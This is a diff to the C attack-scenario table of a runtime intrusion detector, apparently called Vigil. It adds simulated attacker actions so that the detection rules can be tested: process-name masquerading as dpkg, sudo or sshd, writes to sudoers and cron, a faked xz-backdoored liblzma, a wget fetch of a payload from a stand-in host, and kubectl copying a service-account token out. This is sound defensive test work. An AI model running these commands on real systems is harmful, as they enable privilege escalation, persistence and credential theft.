@@ -212,7 +212,8 @@ static int hardlink_shadow(const struct scenario *s)
 	return 0;
 }
 
-static int read_proc_mem(const struct scenario *s)
+/* Read /proc/CHILD/<s->arg> of a child of ours. */
+static int read_proc_file(const struct scenario *s)
 {
 	char path[64];
 	pid_t target = sleeper();
@@ -220,7 +221,7 @@ static int read_proc_mem(const struct scenario *s)
 
 	if (target < 0)
 		return SC_FAIL(5);
-	snprintf(path, sizeof(path), "/proc/%d/mem", (int)target);
+	snprintf(path, sizeof(path), "/proc/%d/%s", (int)target, s->arg);
 	r = read_file(path);
 	reap(target);
 	return r;
@@ -243,7 +244,7 @@ static int chmod_setuid(const struct scenario *s)
 	snprintf(path, sizeof(path), "%s/private/suid-%d", env.dir, (int)getpid());
 	if (close(open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700)))
 		return SC_FAIL(8);
-	r = chmod(path, 04755);
+	r = chmod(path, s->arg ? 02755 : 04755);
 	unlink(path);
 	return r ? SC_FAIL(9) : 0;
 }
@@ -700,6 +701,113 @@ static int container_exec_from_tmp(const struct scenario *s)
 	return 127;
 }
 
+/* --- names that cannot be claimed --------------------------------------------------------- */
+
+/*
+ * The allowlists trust programs by executable path, not by name: a process
+ * that takes a trusted program's name, with prctl(PR_SET_NAME) or by being
+ * a renamed copy of another program, is judged as what it runs.
+ */
+static int claim_name(const char *name)
+{
+	return prctl(PR_SET_NAME, name, 0, 0, 0);
+}
+
+/* In a container, called systemd-udevd (the name the enforcing module rule
+ * spares in the kernel), load a module. */
+static int claimed_udevd_loads_module(const struct scenario *s)
+{
+	if (claim_name("systemd-udevd"))
+		return SC_FAIL(1);
+	return load_module_garbage(s);
+}
+
+/* Called dpkg, write sudo policy. */
+static int claimed_dpkg_writes_sudoers(const struct scenario *s)
+{
+	if (claim_name("dpkg"))
+		return SC_FAIL(1);
+	return touch_in(s);
+}
+
+/* A copy of bash saved as sudo reads /etc/shadow itself. */
+static int copied_sudo_reads_shadow(const struct scenario *s)
+{
+	return run_named_shell("sudo", "read -r line < /etc/shadow; exit 0");
+}
+
+/* Below a copy of bash saved as dpkg (a package manager's maintainer
+ * scripts are trusted by their ancestor's executable), a shell drops a
+ * program into /usr/local/bin. */
+static int below_copied_dpkg_drops_program(const struct scenario *s)
+{
+	char script[256];
+
+	snprintf(script, sizeof(script),
+		 "(echo $BASHPID >&%d; exec /bin/sh -c 'f=/usr/local/bin/vigil-attack-$$; "
+		 ": > $f && rm -f $f'); exit 0",
+		 REPORT_FD);
+	return run_named_shell("dpkg", script);
+}
+
+/* A copy of bash saved as dpkg writes a cron job. */
+static int copied_dpkg_writes_cron(const struct scenario *s)
+{
+	return run_named_shell("dpkg", "f=/etc/cron.d/vigil-attack-$$; : > $f && rm -f $f");
+}
+
+/* A file made in our own directory, then moved to s->arg/NAME with
+ * rename(2) (across filesystems it fails with EXDEV: the attempt is the
+ * behaviour), and removed. */
+static int move_into(const struct scenario *s)
+{
+	char from[128], to[128];
+	int r;
+
+	snprintf(from, sizeof(from), "%s/private/moved-%d", env.dir, (int)getpid());
+	snprintf(to, sizeof(to), "%s/vigil-attack-%d", s->arg, (int)getpid());
+	if (open_close(from, O_WRONLY | O_CREAT | O_EXCL, 0644))
+		return SC_FAIL(6);
+	r = rename(from, to);
+	unlink(r ? from : to);
+	return r && errno != EXDEV ? SC_FAIL(7) : 0;
+}
+
+/* A new program dropped into s->arg (empty, removed at once). */
+static int drop_program(const struct scenario *s)
+{
+	char name[64];
+
+	unique_name(name, sizeof(name), "");
+	return create_and_remove(s->arg, name, 0755);
+}
+
+/* sshd opening a liblzma 5.6.1 (an empty file) where Debian keeps
+ * libraries: in the container's own mount namespace, over a tmpfs, so that
+ * the host's library directory is not touched. */
+static int sshd_loads_xz_backdoor(const struct scenario *s)
+{
+	const char *dir = "/usr/lib/x86_64-linux-gnu";
+	char path[128];
+
+	if (mount("none", dir, "tmpfs", 0, "size=64k"))
+		return SC_FAIL(10);
+	snprintf(path, sizeof(path), "%s/liblzma.so.5.6.1", dir);
+	if (open_close(path, O_WRONLY | O_CREAT | O_EXCL, 0644) || claim_name("sshd"))
+		return SC_FAIL(11);
+	return read_file(path);
+}
+
+/* A database server (a copy of bash named mysqld) starting a program. */
+static int program_below_database(const struct scenario *s)
+{
+	char tool[128], script[256];
+
+	tool_path("it-true", tool, sizeof(tool));
+	snprintf(script, sizeof(script), "(echo $BASHPID >&%d; exec %s); exit 0", REPORT_FD, tool);
+	return run_named_shell("mysqld", script);
+}
+
 /* --- the table ------------------------------------------------------------------------- */
 
 #define HOST(rule, fn) { rule, fn, 0, NULL, NULL, { NULL } }
@@ -718,10 +826,13 @@ const struct scenario scenarios[] = {
 	HOSTARG("Search for cloud credentials", grep_for, "aws_secret_access_key"),
 	HOST("Symlink to sensitive file", symlink_shadow),
 	HOST("Hardlink to sensitive file", hardlink_shadow),
-	HOST("Process memory read through procfs", read_proc_mem),
+	HOSTARG("Process memory read through procfs", read_proc_file, "mem"),
+	HOSTARG("Process environment read through procfs", read_proc_file, "environ"),
 	/* privilege escalation */
 	HOST("Setuid to root by non-root process", setuid_root_refused),
-	HOST("Setuid bit set on a file", chmod_setuid),
+	HOST("Setuid or setgid bit set on a file", chmod_setuid),
+	{ "Setuid or setgid bit set on a file", chmod_setuid, 0, "setgid", NULL, { NULL },
+	  "the setgid bit" },
 	HOST("Setuid-root program run from writable directory", run_setuid_from_tmp),
 	HOST("Dangerous capability raised by non-root process", raise_capabilities),
 	HOST("Privilege tool run by a server process", sudo_below_server),
@@ -759,6 +870,10 @@ const struct scenario scenarios[] = {
 	HOSTARG("Write to PAM configuration", touch_in, "/etc/pam.d"),
 	HOSTARG("Write to account database", open_for_writing, "/etc/passwd"),
 	TOOL("Local account created", 0, "useradd", "-o", "-u", "0", "vigil-attack"),
+	HOSTARG("File written below /etc", touch_in, "/etc"),
+	{ "File written below /etc", move_into, 0, "/etc", NULL, { NULL }, "moved in with rename" },
+	HOSTARG("Program written to a binary directory", drop_program, "/usr/local/bin"),
+	TOOL("Package manager run in a container", IN_CONTAINER, "apt-get", "install", "-y", "nmap"),
 	CONT("Executable file created in a container", container_drop_executable),
 	CONT("Execution from writable directory in a container", container_exec_from_tmp),
 	/* defense evasion */
@@ -769,6 +884,8 @@ const struct scenario scenarios[] = {
 	TOOL("Security service stopped", 0, "systemctl", "stop", "auditd"),
 	HOST("Execution from /dev/shm", exec_from_shm),
 	HOST("Fileless execution from memfd", exec_from_memfd),
+	HOSTARG("File created below /dev", touch_in, "/dev"),
+	CONT("Backdoored xz library loaded by sshd", sshd_loads_xz_backdoor),
 	HOST("Process masquerading as system program", exec_as_kernel_thread),
 	HOST("Bulk data destruction", shred_file),
 	TOOL("Immutable attribute set", 0, "chattr", "+i", "/tmp/vigil-attack-locked"),
@@ -783,6 +900,7 @@ const struct scenario scenarios[] = {
 	CONT("Shell spawned in a container", container_shell),
 	CONT("Terminal shell in a container", container_tty_shell),
 	HOST("Shell spawned by a server process", shell_below_server),
+	HOST("Program spawned by a database server", program_below_database),
 	HOST("Reverse shell socket on standard input or output", reverse_shell),
 	HOST("Shell opened network connection", bash_dev_tcp),
 	HOST("Interpreter one-liner opened network connection", python_connect),
@@ -790,6 +908,10 @@ const struct scenario scenarios[] = {
 	HOST("System account ran an interactive command", system_user_session),
 	/* lateral movement and command and control */
 	TOOL("SSH client run in a container", IN_CONTAINER, "ssh", "-p", "22", "root@10.0.0.1"),
+	TOOL("File transfer tool run in a container", IN_CONTAINER, "wget", "-q",
+	     "http://192.0.2.1/payload"),
+	TOOL("Files copied out through the Kubernetes API", 0, "kubectl", "cp",
+	     "default/web-0:/var/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/token"),
 	HOST("SSH connection to non-standard port", ssh_to_port_4444),
 	HOST("Connection to mining pool port", connect_mining_pool),
 	TOOL("Cryptocurrency miner started", 0, "xmrig", "-o", "stratum+tcp://192.0.2.1:3333", "-u",
@@ -801,6 +923,17 @@ const struct scenario scenarios[] = {
 	HOST("BPF pin removed", bpf_unpin),
 	HOST("BPF objects of other programs accessed", bpf_link_by_id),
 	HOSTARG("Vigil rules or binary modified", touch_in, "/etc/vigil"),
+	/* trusted names claimed: still caught */
+	{ "Kernel module load under a sandboxed loader's name", claimed_udevd_loads_module,
+	  IN_CONTAINER, NULL, NULL, { NULL } },
+	{ "Write below sudoers", claimed_dpkg_writes_sudoers, 0, "/etc/sudoers.d", NULL, { NULL },
+	  "as dpkg by prctl(PR_SET_NAME)" },
+	{ "Read sensitive file untrusted", copied_sudo_reads_shadow, 0, NULL, NULL, { NULL },
+	  "by a copy of bash named sudo" },
+	{ "Write to cron configuration", copied_dpkg_writes_cron, 0, NULL, NULL, { NULL },
+	  "by a copy of bash named dpkg" },
+	{ "Program written to a binary directory", below_copied_dpkg_drops_program, 0, NULL, NULL,
+	  { NULL }, "below a copy of bash named dpkg" },
 };
 
 const size_t nscenarios = sizeof(scenarios) / sizeof(scenarios[0]);
